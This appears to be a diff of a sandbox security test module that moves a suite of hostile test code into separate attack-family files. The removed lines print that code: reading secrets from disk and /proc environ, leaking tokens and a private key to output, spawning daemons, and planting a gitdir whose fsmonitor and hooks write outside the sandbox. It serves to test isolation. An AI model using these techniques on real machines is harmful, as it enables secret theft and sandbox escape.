@@ -4,6 +4,10 @@ Every attack prints one line `HOSTILE <stage> <attack> <result>` (stages: `codem
 `test`), so the output tails kept in the job's record are the evidence of what was tried and
 what happened. The targets (paths, ports, the marker strings) are committed in
 `tools/targets.json`: the attacker is assumed to know the layout of the machine.
+
+This module builds the repository and reads the evidence; the attacks themselves are grouped by
+family: hostile_reads.py (secrets on disk and in /proc), hostile_escapes.py (network, writes,
+daemons), hostile_leaks.py (secrets in the output), hostile_git.py (planting a gitdir).
 """
 
 from __future__ import annotations
@@ -26,6 +30,10 @@ import yaml
 
 from jobs.adapters.sandbox import bubblewrap_available
 from jobs.domain.records import CommandEvidence
+from tests.security.hostile_escapes import ESCAPES
+from tests.security.hostile_git import GIT_PLANT
+from tests.security.hostile_leaks import LEAKS
+from tests.security.hostile_reads import READS
 
 # In CI a missing bubblewrap fails loudly (jobs.adapters.sandbox refuses); elsewhere these tests skip.
 needs_bwrap = pytest.mark.skipif(not bubblewrap_available() and os.environ.get("CI") != "true",
@@ -41,7 +49,7 @@ ALL_ATTACKS = ("app_key", "proc_environ", "other_clone", "git_config", "redis", 
                "git_plant")
 TEST_ATTACKS = ("app_key", "daemon", "token", "url", "header")
 
-ATTACKS = r'''"""Hostile code shared by the codemod, conftest.py and the tests of this repository."""
+ATTACKS_PRELUDE = r'''"""Hostile code shared by the codemod, conftest.py and the tests of this repository."""
 import errno
 import hashlib
 import json
@@ -61,131 +69,9 @@ def report(stage, attack, result):
 
 def failure(exc):
     name = errno.errorcode.get(exc.errno or 0, "-") if isinstance(exc, OSError) else "-"
-    return f"error:{type(exc).__name__}:{name}"
+    return f"error:{type(exc).__name__}:{name}"'''
 
-
-def read(path):
-    try:
-        data = Path(path).read_bytes()
-    except OSError as exc:
-        return failure(exc)
-    return f"read:{len(data)}:{hashlib.sha256(data).hexdigest()[:16]}"
-
-
-def app_key():
-    return read(TARGETS["key_path"])
-
-
-def proc_environ():
-    marker = TARGETS["env_marker"].encode()
-    seen = readable = leaked = 0
-    for entry in Path("/proc").iterdir():
-        if not entry.name.isdigit() or int(entry.name) == os.getpid():
-            continue
-        seen += 1
-        try:
-            data = (entry / "environ").read_bytes()
-        except OSError:
-            continue
-        readable += 1
-        leaked += marker in data
-    try:
-        victim = Path(f"/proc/{TARGETS['victim_pid']}/environ").read_bytes()
-        victim_result = "LEAKED" if marker in victim else "clean"
-    except OSError as exc:
-        victim_result = failure(exc)
-    own = "clean"
-    for key, value in os.environ.items():
-        if marker.decode() in value or TARGETS["token"] in value or "SECRET" in key or "TOKEN" in key:
-            own = "LEAKED"
-    return f"seen={seen} readable={readable} leaked={leaked} victim={victim_result} own={own}"
-
-
-def other_clone():
-    try:
-        listing = f"listed:{len(os.listdir(TARGETS['other_clone']))}"
-    except OSError as exc:
-        listing = failure(exc)
-    return f"file={read(TARGETS['other_secret'])} dir={listing}"
-
-
-def git_config():
-    dotgit = Path.cwd() / ".git"
-    parts = [f"direct={read(dotgit / 'config')}"]
-    try:
-        gitdir = Path(dotgit.read_text().split("gitdir:", 1)[1].strip())
-        parts.append(f"common={read(gitdir.parent.parent / 'config')}")
-    except (OSError, IndexError) as exc:
-        parts.append(f"common={failure(exc)}")
-    parts.append(f"absolute={read(TARGETS['git_config'])}")
-    return " ".join(parts)
-
-
-def connect(host, port):
-    try:
-        with socket.create_connection((host, port), timeout=1):
-            return "connected"
-    except OSError as exc:
-        return failure(exc)
-
-
-def write(path):
-    try:
-        Path(path).write_text("pwned by the hostile repository")
-    except OSError as exc:
-        return failure(exc)
-    return "wrote"
-
-
-def daemon(stage):
-    proc = subprocess.Popen(
-        [sys.executable, "-c", DAEMON, TARGETS["daemon_tag"], stage], start_new_session=True,
-        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
-    )
-    Path("/tmp", f"hostile-{stage}.pid").write_text(str(proc.pid))
-    return f"spawned:{proc.pid}"
-
-
-def token(stage):
-    secret = TARGETS["token"]
-    report(stage, "token", secret)
-    report(stage, "url", f"https://x-access-token:{secret}@github.com/octo/hostile.git")
-    report(stage, "header", f"Authorization: Bearer {secret}")
-    print("-----BEGIN RSA PRIVATE KEY-----\n" + TARGETS["pem_body"]
-          + "\n-----END RSA PRIVATE KEY-----", flush=True)
-
-
-def git_plant(stage):
-    """Issue 11: point the worktree's `.git` at a gitdir of our own whose core.fsmonitor and
-    hooks write `checkout_file` outside the sandbox when Stepwise's next git call runs them."""
-    worktree = Path.cwd()
-    gitdir = worktree / "tests" / ".git"  # inside a tracked directory: git never stages it
-    try:
-        (gitdir / "objects" / "info").mkdir(parents=True, exist_ok=True)
-        (gitdir / "refs").mkdir(exist_ok=True)
-        (gitdir / "hooks").mkdir(exist_ok=True)
-        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
-        # Commits still land: the real object store, next to the config the targets name.
-        objects = Path(TARGETS["git_config"]).parent / "objects"
-        (gitdir / "objects" / "info" / "alternates").write_text(f"{objects}\n")
-        hook = f"#!/bin/sh\necho pwned > {TARGETS['checkout_file']}\n"
-        for name in ("post-index-change", "reference-transaction", "post-checkout"):
-            (gitdir / "hooks" / name).write_text(hook)
-            (gitdir / "hooks" / name).chmod(0o755)
-        (gitdir / "fsmonitor").write_text(hook)
-        (gitdir / "fsmonitor").chmod(0o755)
-        (gitdir / "config").write_text(
-            f"[core]\n\tfsmonitor = {gitdir / 'fsmonitor'}\n\thooksPath = {gitdir / 'hooks'}\n")
-        dotgit = worktree / ".git"
-        if dotgit.is_dir():
-            return "error:dotgit-is-a-directory"
-        dotgit.write_text(f"gitdir: {gitdir}\n")
-    except OSError as exc:
-        return failure(exc)
-    return "planted"
-
-
-def run_all(stage):
+RUN_ALL = r'''def run_all(stage):
     report(stage, "app_key", app_key())
     report(stage, "proc_environ", proc_environ())
     report(stage, "other_clone", other_clone())
@@ -199,6 +85,9 @@ def run_all(stage):
     token(stage)
     report(stage, "git_plant", git_plant(stage))
 '''
+
+# tools/attacks.py: the shared prelude, each attack family, and `run_all` calling them all
+ATTACKS = "\n\n\n".join([ATTACKS_PRELUDE, READS, ESCAPES, LEAKS, GIT_PLANT, RUN_ALL])
 
 CODEMOD_SOURCE = '''"""A "codemod" that attacks first, then renames OLD_NAME to NEW_NAME in its files."""
 import sys
